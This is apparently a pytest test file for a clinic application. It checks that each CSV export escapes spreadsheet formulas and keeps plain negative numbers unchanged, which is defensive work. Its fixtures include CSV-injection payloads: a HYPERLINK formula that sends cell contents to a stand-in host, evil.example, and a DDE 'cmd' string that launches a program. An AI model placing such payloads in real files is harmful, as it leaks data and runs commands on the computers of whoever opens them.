"""Every CSV file the application writes opens in a spreadsheet as text: a cell that starts with
``=``, ``+``, ``-``, ``@``, a tab or a carriage return is written with a quote before it (OWASP,
CSV Injection), a plain negative number is not. Checked for each writer: patients, the rejects of
an import, appointments, treatments, the recall list, the reports. What was typed is what is
stored; an export imported again changes nothing and grows no quotes.

Names with a leading tab or carriage return cannot be typed in (the services trim them): they are
put into the database directly, as a record from an older version or another program would be,
because an export must be safe whatever the database holds."""

from __future__ import annotations

import csv
from dataclasses import replace
from datetime import date
from decimal import Decimal
from pathlib import Path

import pytest

from clinic_desktop.domain.codes import Indication, Product, Side
from clinic_desktop.domain.hours import parse_blocks
from clinic_desktop.domain.treatment_record import SiteDose
from clinic_desktop.domain.treatments import TreatmentDraft
from clinic_desktop.services import ClinicServices
from clinic_desktop.services.appointments import BookingRequest
from clinic_desktop.services.csv_exports import CsvExportService
from clinic_desktop.services.patient_csv import PatientCsvService
from clinic_desktop.services.patients import PatientInput
from clinic_desktop.services.reports import ReportKind
from clinic_desktop.store import models as m

ONA = Product.ONABOTULINUMTOXINA
HYPERLINK = '=HYPERLINK("http://evil.example/?leak="&A1,"Click for your results")'
CMD = "+cmd|' /C calc'!A0"
SUM = "@SUM(1)"
TAB, CR = "\tTab", "\rReturn"
#: Given names of patients 1-5 and how every CSV must write them at the start of a cell.
GIVEN = [HYPERLINK, CMD, SUM, TAB, CR]
SAFE = {name: "'" + name for name in GIVEN}
FAMILY = ["Doe", "Roe", "Poe", "Case", "Case"]
AUTUMN = (date(2026, 9, 1), date(2026, 12, 31))
WEEKDAYS = {1: "01", 2: "02", 3: "03", 4: "04", 5: "07"}  # patient -> a December weekday


def quoted(cell: str) -> str:
    """A cell as a CSV file holds it, in double quotes."""
    return '"' + cell.replace('"', '""') + '"'


def read(path: Path) -> list[dict[str, str]]:
    with path.open(encoding="utf-8", newline="") as handle:
        return list(csv.DictReader(handle))


def register(s: ClinicServices) -> None:
    """Patients 1-3 as a receptionist typed them (the names are accepted: they have letters)."""
    s.patients.add(
        PatientInput(HYPERLINK, "Doe", "1980-04-02", phone="+12125550101", external_id="-5", notes="=1+1")
    )
    s.patients.add(PatientInput(CMD, "Roe", "1975-09-30", preferred_name=SUM, referring_physician="-3.5"))
    s.patients.add(PatientInput(SUM, "Poe", "1990-01-15", address="-12 Elm Street"))


def legacy_patients(s: ClinicServices) -> None:
    """Patients 4 and 5, whose names start with a tab and a carriage return in the database (see
    the module docstring)."""
    for given in (TAB, CR):
        record = s.patients.add(PatientInput(given.strip(), "Case", "1985-03-03")).record
        with s.store.write_transaction():
            m.Patient.update(given_name=given).where(m.Patient.id == record.id).execute()


@pytest.fixture
def typed(services: ClinicServices) -> ClinicServices:
    register(services)
    return services


@pytest.fixture
def clinic(services: ClinicServices) -> ClinicServices:
    """The five patients, each treated on a September morning by Dr Lind from lot ``-5`` (a plain
    number) or ``-A1`` (not; both put in the database directly: the stock form wants a letter or
    digit first), each with a consultation with "@SUM(1)" (a provider's name) in December,
    cancelled: so all five are on the recall list too."""
    s = services
    s.clinic.set_setting("timezone", "America/New_York")
    for name in ("Dr Lind", SUM):
        provider = s.resources.add_provider(name)
        for day in range(5):
            s.resources.set_hours(provider.id, day, parse_blocks("08:00-17:00"))
    s.resources.add_type("Consultation", 20)
    register(s)
    legacy_patients(s)
    s.treatments.add_lot(ONA, "C1", date(2027, 6, 30), 20)
    s.treatments.add_lot(ONA, "C2", date(2027, 6, 30), 20)
    for patient in range(1, 6):
        s.treatments.record(
            TreatmentDraft(
                patient, 1, s.time.parse_local(f"2026-09-0{patient}T09:00"), Indication.CHRONIC_MIGRAINE,
                ONA, "C1" if patient % 2 else "C2", (SiteDose("frontalis", Side.BILATERAL, Decimal(20), 4),),
                CMD if patient == 1 else "", waste_units=Decimal(0),
            )
        )  # fmt: skip
        booked = s.appointments.book(
            BookingRequest(
                patient, 2, "Consultation", s.time.parse_local(f"2026-12-{WEEKDAYS[patient]}T09:00")
            )
        )
        s.appointments.cancel(booked.appointments[0].id, "-5" if patient == 1 else "=1+1")
    with s.store.write_transaction():  # lot numbers the stock form would refuse today
        for old, new in (("C1", "-5"), ("C2", "-A1")):
            m.Lot.update(lot_number=new).where(m.Lot.lot_number == old).execute()
    return s


def test_the_patient_export_quotes_formulas_and_keeps_numbers(clinic: ClinicServices, tmp_path: Path) -> None:
    path = tmp_path / "patients.csv"
    assert PatientCsvService(clinic).export(path) == 5
    rows = read(path)
    assert [r["given_name"] for r in rows] == [SAFE[g] for g in GIVEN]
    assert [r["family_name"] for r in rows] == FAMILY
    assert (rows[0]["external_id"], rows[0]["notes"]) == ("-5", "'=1+1")
    assert (rows[1]["preferred_name"], rows[1]["referring_physician"]) == ("'" + SUM, "-3.5")
    assert rows[2]["address"] == "'-12 Elm Street"
    # What is stored is what was typed.
    assert [clinic.patients.get(n).given_name for n in range(1, 6)] == GIVEN


def test_an_export_imported_again_changes_nothing_and_grows_no_quotes(
    typed: ClinicServices, tmp_path: Path
) -> None:
    service = PatientCsvService(typed)
    first, second = tmp_path / "first.csv", tmp_path / "second.csv"
    service.export(first)
    report = service.import_rows(service.read(first))
    assert (report.read, report.imported, report.updated, report.rejected) == (3, 0, 3, [])
    assert report.unchanged == 3  # every value read back equals the one stored
    assert [typed.patients.get(n).given_name for n in (1, 2, 3)] == GIVEN[:3]
    assert typed.patients.get(1).external_id == "-5" and typed.patients.get(1).notes == "=1+1"
    service.export(second)
    assert second.read_bytes() == first.read_bytes()


def test_an_import_stores_what_was_typed(typed: ClinicServices) -> None:
    service = PatientCsvService(typed)
    text = f"given_name,family_name,date_of_birth,notes\n{quoted(HYPERLINK)},Quinn,2001-02-03,@SUM(1)\n"
    report = service.import_rows(service.read(text))
    assert report.imported == 1
    (added,) = [typed.patients.get(n) for n in range(1, 5) if typed.patients.get(n).family_name == "Quinn"]
    assert (added.given_name, added.notes) == (HYPERLINK, SUM)


def test_the_rejects_file_quotes_formulas_and_reads_back_as_the_file_had_it(
    typed: ClinicServices, tmp_path: Path
) -> None:
    service = PatientCsvService(typed)
    source = (
        "given_name,family_name,date_of_birth,notes,external_id,=evil\r\n"
        f'{quoted(HYPERLINK)},"{CMD}",someday,"\t=1+2",-5,@SUM(1)\r\n'
    )
    parsed = service.read(source)
    report = service.import_rows(parsed)
    assert (report.imported, len(report.rejected)) == (0, 1)
    path = tmp_path / "rejects.csv"
    assert service.write_rejects(report, path) == 1
    with path.open(encoding="utf-8", newline="") as handle:
        header, row = list(csv.reader(handle))
    assert header[5:] == ["'=evil", "line", "reason"]  # the file's own header too
    assert row[:7] == ["'" + HYPERLINK, "'" + CMD, "someday", "'\t=1+2", "-5", "'" + SUM, "2"]
    again = service.read(path)
    assert again.columns[:6] == parsed.columns
    assert again.records[0].cells[:6] == parsed.records[0].cells


def test_the_appointments_export_quotes_formulas_and_keeps_numbers(
    clinic: ClinicServices, tmp_path: Path
) -> None:
    path = tmp_path / "appointments.csv"
    assert CsvExportService(clinic).export_appointments(path, *AUTUMN) == 5
    rows = read(path)
    assert [r["patient_name"] for r in rows] == [f"{SAFE[g]} {f}" for g, f in zip(GIVEN, FAMILY, strict=True)]
    assert {r["provider_name"] for r in rows} == {"'" + SUM}
    assert [r["cancel_reason"] for r in rows] == ["-5"] + ["'=1+1"] * 4


def test_the_treatments_export_quotes_formulas_and_keeps_numbers(
    clinic: ClinicServices, tmp_path: Path
) -> None:
    path = tmp_path / "treatments.csv"
    assert CsvExportService(clinic).export_treatments(path, *AUTUMN) == 5
    rows = read(path)
    assert [r["patient_name"] for r in rows] == [f"{SAFE[g]} {f}" for g, f in zip(GIVEN, FAMILY, strict=True)]
    assert [r["lot"] for r in rows] == ["-5", "'-A1", "-5", "'-A1", "-5"]
    assert rows[0]["protocol"] == "'" + CMD


def test_the_recall_list_quotes_formulas_and_keeps_numbers(clinic: ClinicServices, tmp_path: Path) -> None:
    path = tmp_path / "recalls.csv"
    rows = clinic.followups.recalls()
    assert {r.patient_id for r in rows} == {1, 2, 3, 4, 5}
    # The writer takes the rows the view shows; one of them with a negative figure in it.
    rows[0] = replace(rows[0], days_overdue=-3)
    assert clinic.followups.export_csv(rows, str(path)) == 5
    written = read(path)
    names = {r.patient_id: f"{SAFE[GIVEN[r.patient_id - 1]]} {FAMILY[r.patient_id - 1]}" for r in rows}
    assert [w["patient_name"] for w in written] == [names[r.patient_id] for r in rows]
    assert written[0]["days_overdue"] == "-3"
    phones = {int(w["patient_id"]): w["phone"] for w in written}
    assert phones[1] == "+12125550101"  # an E.164 number is a plain number: unchanged


def test_the_reports_quote_formulas_and_keep_numbers(clinic: ClinicServices, tmp_path: Path) -> None:
    units, attendance = tmp_path / "units.csv", tmp_path / "attendance.csv"
    clinic.reports.write_csv(clinic.reports.build(ReportKind.UNITS, *AUTUMN), units)
    lots = {r["Lot"] for r in read(units)}
    assert {"-5", "'-A1"} <= lots
    clinic.reports.write_csv(clinic.reports.build(ReportKind.ATTENDANCE, *AUTUMN), attendance)
    providers = [r["Provider"] for r in read(attendance)]
    assert "'" + SUM in providers and SUM not in providers
